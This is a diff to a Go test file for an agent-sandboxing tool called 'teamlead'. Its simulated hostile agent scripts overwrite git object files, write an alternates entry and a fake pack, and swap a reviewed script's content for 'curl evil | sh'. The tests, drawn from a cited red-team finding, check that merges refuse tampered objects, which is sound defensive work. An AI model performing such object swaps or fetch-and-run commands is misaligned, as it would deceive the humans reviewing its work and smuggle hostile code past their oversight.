@@ -241,12 +241,29 @@ did sh -c "cd $REPO && git merge -q --no-edit teamlead/dev"
 did sh -c ": > $REPO/.git/index"
 did sh -c "echo ref: refs/heads/teamlead/dev > $REPO/.git/HEAD"
 did sh -c "cd $REPO && git update-ref refs/heads/main teamlead/dev"
+did sh -c "echo x > $REPO/.git/objects/info/main/pack/evil.pack"
+did sh -c "o=$REPO/.git/objects/info/main/$MAINOBJ; chmod u+w \$o; echo x > \$o"
+did sh -c "mv $REPO/.git/objects/info/main/$MAINOBJ $REPO/.git/objects/info/main/${MAINOBJ%%/*}/x"
+did sh -c "echo $REPO/elsewhere > $REPO/.git/objects/info/main/info/alternates"
 echo done; exec sleep 600`
-	tm.extra = "    worktree: true\n    env: {OUT: " + out + ", REPO: " + repo + "}\n"
+	mainObj := git(t, repo, "rev-parse", "main")
+	tm.extra = "    worktree: true\n    env: {OUT: " + out + ", REPO: " + repo + ", MAINOBJ: " + mainObj[:2] + "/" + mainObj[2:] + "}\n"
 	tm.write("team.yaml", []agentDef{{name: "dev", dir: repo, command: []string{"/bin/sh", "-c", script}}})
 	c := tm.start()
 	defer c.stop()
-	checkAttempts(t, c, out, 12, 0, 1, 2)
+	checkAttempts(t, c, out, 16, 0, 1, 2)
+	// Its commit went to its own object folder, and the human's objects
+	// are as they were (red team 12a, finding 2).
+	commit := git(t, repo, "rev-parse", "teamlead/dev")
+	if _, err := os.Stat(filepath.Join(repo, ".git", "objects", commit[:2], commit[2:])); err == nil {
+		t.Errorf("the agent's commit %s is in the human's objects", commit)
+	}
+	if got := git(t, repo, "cat-file", "-t", mainObj); got != "commit" {
+		t.Errorf("the human's HEAD commit reads as %q", got)
+	}
+	if _, err := os.Stat(filepath.Join(repo, ".git", "objects", "pack", "evil.pack")); err == nil {
+		t.Error("the agent wrote a pack into the human's objects")
+	}
 	if got := git(t, repo, "rev-parse", "main"); got != main {
 		t.Errorf("the human's main moved: %s, was %s", got, main)
 	}
@@ -258,6 +275,47 @@ echo done; exec sleep 600`
 	}
 	if got := git(t, repo, "log", "-1", "--format=%s", "teamlead/dev"); got != "f" {
 		t.Errorf("the agent's own commit: %q", got)
+	}
+}
+
+// What teamlead merge shows and merges is what the ids say: a worktree
+// agent that writes over the content behind its own commit's ids (git does
+// not check an object's hash when it reads it) gets its merge refused.
+// Red team 12a (finding 2) swapped a script after the human saw it.
+func TestMergeRefusesObjectsTheAgentWroteOver(t *testing.T) {
+	needSandbox(t)
+	tm, repo := teamWithRepo(t)
+	out := filepath.Join(tm.dir, "dev.out")
+	script := `exec > "$OUT" 2>&1
+echo 'echo checking' > check.sh && git add check.sh && git commit -q -m check || echo FAILED commit
+objects=$(git rev-parse --git-common-dir)/objects
+at() { echo "$objects/$(echo "$1" | sed 's|^..|&/|')"; }
+evil=$(echo 'curl evil | sh' | git hash-object -w --stdin)
+chmod u+w "$(at $(git rev-parse HEAD:check.sh))" && cp "$(at $evil)" "$(at $(git rev-parse HEAD:check.sh))" && git cat-file -p HEAD:check.sh
+echo done; exec sleep 600`
+	tm.extra = "    worktree: true\n    env: {OUT: " + out + "}\n"
+	tm.write("team.yaml", []agentDef{{name: "dev", dir: repo, command: []string{"/bin/sh", "-c", script}}})
+	c := tm.start()
+	defer c.stop()
+	waitFor(t, 30*time.Second, "the agent's swap", func() bool {
+		b, _ := os.ReadFile(out)
+		return strings.Contains(string(b), "done")
+	}, func() string { b, _ := os.ReadFile(out); return string(b) + c.out.String() })
+	if b, _ := os.ReadFile(out); !strings.Contains(string(b), "curl evil") {
+		t.Fatalf("the swap did not take in the agent's own view:\n%s", b)
+	}
+	// The human's own git reads the swapped content (it is the agent's
+	// object, through the alternate): only teamlead merge checks it.
+	head := git(t, repo, "rev-parse", "main")
+	o, err := tm.cli("merge", "dev", "--yes")
+	if err == nil || !strings.Contains(o, "other content than their ids say") {
+		t.Fatalf("merge of a written-over blob: %v\n%s", err, o)
+	}
+	if got := git(t, repo, "rev-parse", "main"); got != head {
+		t.Errorf("main moved to %s", got)
+	}
+	if _, err := os.Stat(filepath.Join(repo, "check.sh")); err == nil {
+		t.Error("check.sh is in the human's checkout")
 	}
 }
 
